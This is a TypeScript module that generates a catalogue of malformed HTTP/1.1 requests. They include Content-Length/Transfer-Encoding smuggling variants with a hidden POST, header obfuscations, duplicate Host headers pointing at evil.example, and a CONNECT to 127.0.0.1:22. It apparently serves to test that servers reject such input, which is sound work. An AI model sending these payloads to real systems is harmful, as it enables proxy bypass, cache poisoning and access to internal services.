/** A request that a service must not read, and where it is hidden. */
export interface Hidden {
  /** `Host: …` as it should be. */
  readonly host: string;
  /** A page that may be asked for. */
  readonly page: string;
  /** Where JSON may be posted. */
  readonly path: string;
  /** What would be granted if it were read. */
  readonly wish: string;
}

/**
 * What makes two readers of HTTP/1.1 disagree where a request ends (RFC 9112 §6, §7, §11.2) or whom it is for, each with a request hidden in it, by
 * name.
 */
export function waysToHide({ host, page, path, wish }: Hidden): Readonly<Record<string, string>> {
  const hidden = `POST ${path} HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\nContent-Length: ${wish.length}\r\n\r\n${wish}`;
  const post = (headers: string, body: string) =>
    `POST ${path} HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n${body}`;
  return {
    "Content-Length before Transfer-Encoding": post(`Content-Length: 5\r\nTransfer-Encoding: chunked`, `0\r\n\r\n${hidden}`),
    "Transfer-Encoding before Content-Length": post(`Transfer-Encoding: chunked\r\nContent-Length: ${hidden.length}`, `0\r\n\r\n${hidden}`),
    "two Content-Lengths": post(`Content-Length: 0\r\nContent-Length: ${hidden.length}`, hidden),
    "two equal Content-Lengths in one": post("Content-Length: 2, 2", `{}${hidden}`),
    "a signed Content-Length": post("Content-Length: +2", `{}${hidden}`),
    "a negative Content-Length": post("Content-Length: -1", hidden),
    "a hexadecimal Content-Length": post("Content-Length: 0x2", `{}${hidden}`),
    "a Content-Length with a space in it": post("Content-Length: 2 2", `{}${hidden}`),
    "an unknown transfer coding": post("Transfer-Encoding: xchunked", `0\r\n\r\n${hidden}`),
    "chunked, then another coding": post("Transfer-Encoding: chunked, identity", `0\r\n\r\n${hidden}`),
    "chunked twice": post("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", `0\r\n\r\n${hidden}`),
    "a space before the colon": post("Transfer-Encoding : chunked", `0\r\n\r\n${hidden}`),
    "a tab before the coding, and a length": post(`Content-Length: ${hidden.length}\r\nTransfer-Encoding:\tchunked`, `0\r\n\r\n${hidden}`),
    "a vertical tab before the coding": post(`Content-Length: 0\r\nTransfer-Encoding:\x0bchunked`, hidden),
    "a folded header": post(`X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0`, hidden),
    "a header folded into the length": post(`Content-Length:\r\n 0`, hidden),
    "a bare LF at a line's end": post(`X: y\nContent-Length: ${hidden.length}\r\nContent-Length: 0`, hidden),
    "a bare CR in a header": post(`X: y\rContent-Length: 0\r\nContent-Length: ${hidden.length}`, hidden),
    "a NUL in a header": post(`X: y\0z\r\nContent-Length: 0`, hidden),
    "a chunk's size that is no number": post("Transfer-Encoding: chunked", `0x0\r\n\r\n${hidden}`),
    "a chunk's size over 64 bits": post("Transfer-Encoding: chunked", `10000000000000000\r\n{}\r\n0\r\n\r\n${hidden}`),
    "a chunk longer than its size": post("Transfer-Encoding: chunked", `2\r\n{}${hidden}\r\n0\r\n\r\n`),
    "a header without a name": post(": chunked\r\nContent-Length: 0", hidden),
    "no colon": post("Transfer-Encoding chunked\r\nContent-Length: 0", hidden),
    "HTTP/2's first words": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "a version that is none": `GET ${page} HTTP/9.9\r\n${host}\r\n\r\n`,
    "no version": `GET ${page}\r\n\r\n`,
    "two Hosts": `GET ${page} HTTP/1.1\r\n${host}\r\nHost: evil.example\r\n\r\n`,
    "no Host": `GET ${page} HTTP/1.1\r\n\r\n`,
    "another host in the target": `GET https://evil.example${page} HTTP/1.1\r\n${host}\r\n\r\n`,
    "a target for a proxy": `CONNECT 127.0.0.1:22 HTTP/1.1\r\n${host}\r\n\r\n`,
    "no HTTP at all": "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
  };
}
